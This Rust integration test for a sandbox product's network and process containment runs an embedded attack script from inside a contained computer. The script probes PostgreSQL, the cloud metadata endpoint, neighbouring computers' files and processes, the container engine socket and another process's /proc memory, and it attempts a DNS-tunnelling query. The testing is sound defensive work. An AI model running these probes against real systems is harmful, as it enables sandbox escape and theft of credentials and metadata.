//! Containment of local and Docker computers (issue 29), attacked from inside a computer.
//!
//! Everything runs inside network namespaces this test makes, with no route off this machine:
//! a "world" namespace (the control plane, its PostgreSQL on the world's 127.0.0.1:5432, the
//! computers' veths) and a test-host namespace behind it holding a private address
//! (10.99.0.2), the cloud metadata address (169.254.169.254) and a public one (203.0.113.10,
//! TEST-NET-3, standing for the internet), each serving HTTP on port 80. The test's own thread
//! enters the world first, so the server and everything it starts inherit it.
//!
//! The same attack script runs in a computer of a control plane with `--local-containment
//! full` (every attack refused; the internet host reached) and of one with `off` (every attack
//! succeeds), so the first half cannot pass vacuously.
//!
//! Then in a Docker computer (the test engine, podman, runs outside the lab): with
//! `--docker-containment full` its container has no network of the engine's, and the world's
//! control plane links its namespace into the world (the only link it has), so nothing it sends
//! leaves the lab either. With `off` the containers share the world's network (network mode
//! `ns:` the world's namespace, podman's), which reaches every network target. The file and
//! process targets (another computer's `/tmp` and processes, the host's marker file, the
//! engine's socket) are out of a container's sight in both modes, by the engine's own isolation,
//! not ours: the local `off` run shows the script finds them when they are there.

use anyhow::{Context, Result};
use std::process::Command;
use tests::netlab::{run, Lab};
use tests::{engine, World, WorldOptions};

/// Prints `REACHED <what>` for every attack that works. `$1` the other computer's address,
/// `$2` the control plane's HTTP port, `$3` its tunnel port, `$4` the host's marker file,
/// `$5` the container engine's socket.
const ATTACKS: &str = r#"
other="$1"; http="$2"; tunnel="$3"; marker="$4"; engine="$5"
# The default route's gateway (the computer image has no iproute2), and the address every
# contained computer may reach its gateway at whatever its slot.
gw="$(python3 -c '
import socket, struct
for l in open("/proc/net/route").readlines()[1:]:
    f = l.split()
    if f[1] == "00000000":
        print(socket.inet_ntoa(struct.pack("<L", int(f[2], 16)))); break
' 2>/dev/null)"
[ -n "$gw" ] || gw=127.0.0.1
fixed=10.233.0.1
get() { python3 - "$1" <<'PY' 2>/dev/null
import sys, urllib.request
assert b"test host" in urllib.request.urlopen(sys.argv[1], timeout=3).read()
PY
}
# A service counts as reached when it answers in its own protocol: a connection alone proves
# nothing, since the egress gateway accepts every TCP connection before it decides.
tcp() { python3 - "$1" "$2" "$3" <<'PY' 2>/dev/null
import socket, sys
host, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection((host, port), timeout=3)
s.settimeout(3)
if kind == "pg":
    s.sendall(b"\x00\x00\x00\x08\x04\xd2\x16\x2f")  # SSLRequest
    assert s.recv(1) in (b"N", b"S")
else:
    s.sendall(f"GET / HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
    assert s.recv(5) == b"HTTP/"
PY
}
PGCONNECT_TIMEOUT=3 psql -h 127.0.0.1 -U postgres -d postgres -Atc '\dt' 2>/dev/null | grep -q leases && echo "REACHED postgres tables on 127.0.0.1"
PGCONNECT_TIMEOUT=3 psql -h "$gw" -U postgres -d postgres -Atc 'select 1' >/dev/null 2>&1 && echo "REACHED postgres on the gateway"
for t in "127.0.0.1 5432 pg" "$gw 5432 pg" "$fixed 5432 pg" "127.0.0.1 $http http" "$gw $http http" "$fixed $http http" "10.99.0.2 80 http" "169.254.169.254 80 http" "$other 8000 http"; do
  tcp $t && echo "REACHED tcp $t"
done
get http://169.254.169.254/ && echo "REACHED metadata over http"
[ -e "$engine" ] && echo "REACHED the container engine's socket"
[ -e /tmp/other-computer-marker ] && echo "REACHED the other computer's /tmp"
ps -eo args | grep -v grep | grep -q 'http.server 8000' && echo "REACHED the other computer's processes"
cat "$marker" >/dev/null 2>&1 && echo "REACHED the host's marker file"
ls /work >/dev/null 2>&1 && echo "REACHED /work"
for p in $(pgrep -x rakazo-guest); do
  head -c1 "/proc/$p/environ" >/dev/null 2>&1 && echo "REACHED the guest's environment"
  python3 - "$p" <<'PY' 2>/dev/null && echo "REACHED the guest's memory"
import sys
pid = sys.argv[1]
line = open(f"/proc/{pid}/maps").readline()
start = int(line.split("-")[0], 16)
with open(f"/proc/{pid}/mem", "rb") as m:
    m.seek(start); m.read(1)
PY
done
get http://203.0.113.10/ && echo "INTERNET ok"
true
"#;

/// Prints what of the allow-list's two hosts a command reaches, by name and by address, over
/// curl and Python, and what the gateway's resolver answers (a TXT query under the denied name
/// is a DNS-tunnelling attempt).
const ALLOW_LIST: &str = r#"
for h in allowed.test denied.test 203.0.113.11; do
  curl -s -m 5 "http://$h/" | grep -q 'test host' && echo "curl reached $h"
  python3 - "$h" <<'PY' 2>/dev/null && echo "python reached $h"
import sys, urllib.request
body = urllib.request.urlopen(f"http://{sys.argv[1]}/", timeout=5).read()
assert b"test host" in body
PY
done
curl -s -m 5 --resolve denied.test:80:203.0.113.10 http://denied.test/ | grep -q 'test host' && echo "curl reached denied.test at the allowed address"
python3 - <<'PY'
import random, socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def ask(name, qtype):
    hdr = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(hdr + qname + struct.pack(">HH", qtype, 1), (ns, 53))
    try:
        r = s.recv(4096)
    except socket.timeout:
        return "timeout"
    return f"rcode={r[3] & 15} answers={struct.unpack('>H', r[6:8])[0]}"
print("dns allowed.test A", ask("allowed.test", 1))
print("dns denied.test A", ask("denied.test", 1))
print("dns tunnel TXT", ask("aGVsbG8gd29ybGQ.t1.denied.test", 16))
PY
"#;

/// An allow-list: `allowed.test` reachable by curl, Python and the bot's Chrome, `denied.test`
/// by none of them, by name or by address, and its DNS refused.
async fn allow_list() -> Result<()> {
    let mut w = World::start_with(WorldOptions {
        env: vec![
            ("RAKAZO_LOCAL_CONTAINMENT".into(), "full".into()),
            ("RAKAZO_LOCAL_EGRESS".into(), "allow allowed.test".into()),
            (
                "RAKAZO_EGRESS_HOSTS".into(),
                "allowed.test=203.0.113.10,denied.test=203.0.113.11".into(),
            ),
        ],
        ..Default::default()
    })
    .await?;
    let c = w.create_computer("ws-allow").await?;
    let out = w.sh(&c, ALLOW_LIST).await?;
    eprintln!("allow-list: {out}");
    let lines: Vec<&str> = out.lines().collect();
    for expected in [
        "curl reached allowed.test",
        "python reached allowed.test",
        "dns allowed.test A rcode=0 answers=1",
    ] {
        assert!(lines.contains(&expected), "{expected:?} missing: {out}");
    }
    for line in &lines {
        assert!(
            !line.contains("reached denied.test") && !line.contains("reached 203.0.113.11"),
            "the allow-list let through: {line}"
        );
        if line.starts_with("dns denied") || line.starts_with("dns tunnel") {
            assert!(
                !line.contains("rcode=0") || line.ends_with("answers=0"),
                "a denied name was answered: {line}"
            );
        }
    }
    // The bot's Chrome obeys the same policy.
    let bot = tests::bot::Bot::new(&w, &c, "bot-1").await?;
    bot.ensure().await?;
    let nav = bot.navigate("http://allowed.test/").await?;
    assert_eq!(nav["snapshot"]["title"], "test host", "{nav}");
    let denied = bot.navigate("http://denied.test/").await;
    if let Ok(nav) = &denied {
        assert_ne!(nav["snapshot"]["title"], "test host", "{nav}");
    }

    // A policy change reaches the running computer's very next connection and DNS query: the
    // two hosts swap. The computer's own policy wins over the server's default.
    let both = "curl -s -m 5 http://allowed.test/ | grep -c 'test host'; \
                curl -s -m 5 http://denied.test/ | grep -c 'test host'; true";
    let network = format!("/v1/computers/{c}/network");
    let set = w
        .client
        .json(
            hyper::Method::PUT,
            &network,
            Some(&serde_json::json!({ "policy": "allow denied.test" })),
        )
        .await?;
    assert_eq!(
        (
            &set["policy"],
            &set["source"],
            &set["enforced"],
            &set["applied"]
        ),
        (
            &"allow denied.test".into(),
            &"computer".into(),
            &true.into(),
            &true.into()
        ),
        "{set}"
    );
    assert_eq!(w.sh(&c, both).await?, "0\n1\n", "after the change");
    // What the gateway counted for this computer, in its network view.
    let shown = w.client.json(hyper::Method::GET, &network, None).await?;
    let counters = &shown["counters"];
    for (what, at_least) in [
        ("connections_allowed", 2),
        ("connections_denied", 1),
        ("dns_answered", 2),
        ("dns_refused", 1),
        ("bytes_down", 100),
    ] {
        assert!(
            counters[what].as_u64().is_some_and(|n| n >= at_least),
            "{what}: {shown}"
        );
    }
    // Its workspace's default applies once it has none of its own.
    w.client
        .json(
            hyper::Method::PUT,
            "/v1/workspaces/ws-allow/network",
            Some(&serde_json::json!({ "policy": "none" })),
        )
        .await?;
    let back = w
        .client
        .json(
            hyper::Method::PUT,
            &network,
            Some(&serde_json::json!({ "policy": null })),
        )
        .await?;
    assert_eq!(
        (&back["policy"], &back["source"]),
        (&"none".into(), &"workspace".into())
    );
    assert_eq!(
        w.sh(&c, both).await?,
        "0\n0\n",
        "under the workspace's none"
    );
    w.client
        .json(
            hyper::Method::PUT,
            &network,
            Some(&serde_json::json!({ "policy": "allow denied.test" })),
        )
        .await?;

    // A restarted control plane points the running computer at its new gateway and gives it
    // its stored policy again (not the server's default): the way out works as before.
    w.kill_server();
    w.spawn_server().await?;
    let again = w.sh(&c, both).await?;
    assert_eq!(again, "0\n1\n", "after a restart: {again}");

    // Destroying the computer removes its namespace, link and table.
    let (netns, table) = providers::local::network_names(&c);
    assert!(std::path::Path::new("/run/netns").join(&netns).exists());
    w.client
        .json(hyper::Method::DELETE, &format!("/v1/computers/{c}"), None)
        .await?;
    assert!(
        !std::path::Path::new("/run/netns").join(&netns).exists(),
        "{netns} outlived its computer"
    );
    let tables = run(Command::new("nft").args(["list", "tables"]))?;
    assert!(
        !tables.contains(&table),
        "{table} outlived its computer: {tables}"
    );
    w.check_log()
}

/// The address the other computer's listener is reached at from the attacking one: its
/// `eth0`'s, else (sharing the world's network) 127.0.0.1.
async fn address_of(w: &World, c: &str) -> Result<String> {
    let out = w
        .sh(
            c,
            "python3 -c 'import fcntl, socket, struct; \
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
             print(socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, \
             struct.pack(\"256s\", b\"eth0\"))[20:24]))' 2>/dev/null; true",
        )
        .await?;
    Ok(match out.trim() {
        "" => "127.0.0.1".to_string(),
        a => a.to_string(),
    })
}

/// A contained Docker computer's network through a control-plane restart (adopted: the gateway
/// listens on new ports) and a stop and start (removed, then made anew in the new container's
/// namespace).
async fn docker_lifecycle() -> Result<()> {
    // A database of the world's own: one replica at a time on it, whatever the restart.
    let mut w = World::start_with(WorldOptions {
        providers: Some("docker".into()),
        env: vec![("RAKAZO_DOCKER_CONTAINMENT".into(), "full".into())],
        ..Default::default()
    })
    .await?;
    let c = &w.create_computer_on("ws-lifecycle", Some("docker")).await?;
    const INTERNET: &str = "python3 -c 'import urllib.request; \
        print(b\"test host\" in urllib.request.urlopen(\"http://203.0.113.10/\", timeout=5).read())'";
    let (netns, table) = providers::local::network_names(c);
    let ns_path = std::path::Path::new("/run/netns").join(&netns);
    w.kill_server();
    w.spawn_server().await?;
    assert_eq!(w.sh(c, INTERNET).await?.trim(), "True", "after a restart");
    w.post(&format!("/v1/computers/{c}/stop"), serde_json::json!({}))
        .await?;
    assert!(!ns_path.exists(), "{netns} outlived its container");
    let tables = run(Command::new("nft").args(["list", "tables"]))?;
    assert!(!tables.contains(&table), "{table} outlived its container");
    w.post(&format!("/v1/computers/{c}/start"), serde_json::json!({}))
        .await?;
    assert!(ns_path.exists(), "{netns} missing after a start");
    assert_eq!(w.sh(c, INTERNET).await?.trim(), "True", "after a start");
    // The shared gateway's decisions reach the computer's activity feed (a control plane with
    // Docker computers only: the docker provider hands them over).
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
    loop {
        let feed = w
            .client
            .json(
                hyper::Method::GET,
                &format!("/v1/computers/{c}/activity"),
                None,
            )
            .await?
            .to_string();
        if feed.contains("network.allowed") && feed.contains("203.0.113.10") {
            break;
        }
        anyhow::ensure!(
            tokio::time::Instant::now() < deadline,
            "no network.allowed event for 203.0.113.10 in {feed}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    w.check_log()
}

/// Which provider's computers are attacked.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Local,
    Docker,
}

/// One control plane with `containment` of `kind`'s computers, two of them, the attack;
/// returns what was reached.
async fn attack(
    lab: &Lab,
    kind: Kind,
    containment: &str,
    database_url: &str,
) -> Result<Vec<String>> {
    let marker = tempfile::Builder::new()
        .prefix("rakazo-host-marker-")
        .tempfile_in("/var/tmp")?;
    std::fs::write(marker.path(), "host file\n")?;
    std::fs::set_permissions(
        marker.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )?;
    // A local computer is shown a stand-in socket; a Docker one is asked for the real engine's.
    let engine_dir = tempfile::tempdir()?;
    let mut engine_sock = engine_dir.path().join("engine.sock");
    let _engine = std::os::unix::net::UnixListener::bind(&engine_sock)?;
    std::fs::set_permissions(
        engine_dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )?;
    let (providers, mut env) = match kind {
        Kind::Local => (
            None,
            vec![("RAKAZO_LOCAL_CONTAINMENT".into(), containment.into())],
        ),
        Kind::Docker => {
            engine_sock = engine::socket();
            (
                Some("docker".to_string()),
                vec![("RAKAZO_DOCKER_CONTAINMENT".into(), containment.into())],
            )
        }
    };
    if kind == Kind::Docker && containment == "off" {
        // The world's network, as `host` is outside the lab.
        env.push((
            "RAKAZO_DOCKER_NETWORK".into(),
            format!("ns:/run/netns/{}", lab.world),
        ));
    }
    let mut w = World::start_with(WorldOptions {
        database_url: Some(database_url.to_string()),
        providers: providers.clone(),
        env,
        allow_warn: vec!["are not contained".into()],
        ..Default::default()
    })
    .await?;
    let on = providers.as_deref();
    let a = w.create_computer_on("ws-attacker", on).await?;
    let b = w.create_computer_on("ws-neighbour", on).await?;
    w.sh(
        &b,
        "touch /tmp/other-computer-marker; \
         nohup python3 -m http.server 8000 >/dev/null 2>&1 & sleep 1",
    )
    .await?;
    let other = address_of(&w, &b).await?;
    let http_port = w.http.rsplit(':').next().context("http port")?.to_string();
    let tunnel_port = w
        .tunnel
        .rsplit(':')
        .next()
        .context("tunnel port")?
        .to_string();
    let out = w
        .exec(
            &a,
            serde_json::json!({ "argv": ["sh", "-c", ATTACKS, "attacks", other, http_port,
                tunnel_port, marker.path(), engine_sock] }),
        )
        .await?;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    w.check_log()?;
    Ok(stdout.lines().map(str::to_string).collect())
}

/// The attack from `kind`'s computers of a contained control plane, then `between` (the
/// scenario's own checks), then from those of an uncontained one on a database of its own
/// (replicas of one database share their secrets); the contained side must reach nothing but
/// the internet. Returns what the uncontained side reached.
async fn both_ways(
    lab: &mut Lab,
    kind: Kind,
    between: impl std::future::Future<Output = Result<()>>,
) -> Result<Vec<String>> {
    let pg = tempfile::tempdir()?;
    let url = lab.postgres(pg.path())?;
    let result = async {
        let contained = attack(lab, kind, "full", &url).await?;
        between.await?;
        run(Command::new("psql").args([
            "-h",
            "127.0.0.1",
            "-U",
            "postgres",
            "-c",
            "create database uncontained",
        ]))?;
        let open = attack(
            lab,
            kind,
            "off",
            "postgres://postgres@127.0.0.1:5432/uncontained",
        )
        .await?;
        Ok::<_, anyhow::Error>((contained, open))
    }
    .await;
    lab.stop_postgres(pg.path());
    let (contained, open) = result?;
    eprintln!("{kind:?} contained: {contained:#?}\n{kind:?} not contained: {open:#?}");
    let reached: Vec<&String> = contained
        .iter()
        .filter(|l| l.starts_with("REACHED"))
        .collect();
    assert!(
        reached.is_empty(),
        "a contained {kind:?} computer reached: {reached:#?}"
    );
    assert!(
        contained.iter().any(|l| l == "INTERNET ok"),
        "a contained {kind:?} computer with egress open reaches a public address: {contained:?}"
    );
    Ok(open)
}

/// The whole scenario, run on a thread inside the world namespace.
async fn scenario(lab: &mut Lab) -> Result<()> {
    let open = both_ways(lab, Kind::Local, allow_list()).await?;
    // Without containment the same script reaches every one of them (the guest's memory and
    // environment excepted: the guest is non-dumpable either way).
    for expected in [
        "REACHED postgres tables on 127.0.0.1",
        "REACHED tcp 127.0.0.1 5432 pg",
        "REACHED tcp 10.99.0.2 80 http",
        "REACHED tcp 169.254.169.254 80 http",
        "REACHED metadata over http",
        "REACHED the container engine's socket",
        "REACHED the other computer's /tmp",
        "REACHED the other computer's processes",
        "REACHED the host's marker file",
        "REACHED /work",
    ] {
        assert!(
            open.iter().any(|l| l == expected),
            "without containment, {expected:?} is missing, so the attack proves nothing: {open:#?}"
        );
    }
    assert!(
        open.iter().any(|l| l.starts_with("REACHED tcp 127.0.0.1 ")
            && l.ends_with(" http")
            && !l.contains(" 8000 ")),
        "without containment the control plane's ports are reached: {open:#?}"
    );
    assert!(
        open.iter().any(|l| l == "REACHED tcp 127.0.0.1 8000 http"),
        "without containment the other computer is reached: {open:#?}"
    );
    Ok(())
}

#[test]
fn a_contained_computer_reaches_nothing_of_the_host_or_its_neighbours() -> Result<()> {
    let mut lab = Lab::new()?;
    lab.inside(|lab| Box::pin(scenario(lab)))
}

/// The Docker half: the same attack from a Docker computer, contained and not.
async fn docker_scenario(lab: &mut Lab) -> Result<()> {
    engine::require_engine()?;
    let open = both_ways(lab, Kind::Docker, docker_lifecycle()).await?;
    // On the world's network the same script reaches every network target (the image has no
    // psql: its probe speaks PostgreSQL's protocol itself).
    for expected in [
        "REACHED tcp 127.0.0.1 5432 pg",
        "REACHED tcp 10.99.0.2 80 http",
        "REACHED tcp 169.254.169.254 80 http",
        "REACHED metadata over http",
        "REACHED tcp 127.0.0.1 8000 http",
    ] {
        assert!(
            open.iter().any(|l| l == expected),
            "without containment, {expected:?} is missing, so the attack proves nothing: {open:#?}"
        );
    }
    assert!(
        open.iter().any(|l| l.starts_with("REACHED tcp 127.0.0.1 ")
            && l.ends_with(" http")
            && !l.contains(" 8000 ")),
        "without containment the control plane's ports are reached: {open:#?}"
    );
    Ok(())
}

#[test]
fn a_contained_docker_computer_reaches_nothing_of_the_host_or_its_neighbours() -> Result<()> {
    let mut lab = Lab::new()?;
    lab.inside(|lab| Box::pin(docker_scenario(lab)))
}
